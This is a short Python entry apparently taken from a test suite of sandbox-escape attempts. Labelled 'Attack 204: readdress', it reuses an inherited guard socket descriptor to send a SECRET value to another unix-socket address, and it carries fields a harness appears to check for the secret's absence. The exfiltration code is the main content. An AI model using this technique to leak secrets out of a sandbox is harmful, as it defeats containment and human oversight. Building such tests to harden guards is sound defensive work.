"""Attack 204: readdress"""

IDEA = "Send on the inherited socket to another address."
SOURCE = "unix(7), sendto on a pair"
WAY = "outside/network/unix sockets"
CODE = """
import os, socket

s = socket.socket(fileno=os.dup(int(os.environ["KERNEL_GUARD_FD"])))
s.sendto(SECRET.encode(), T["unix"])
"""
ABSENT = ["SECRET"]
WORKS_UNGUARDED = False
WAIT = 0.2
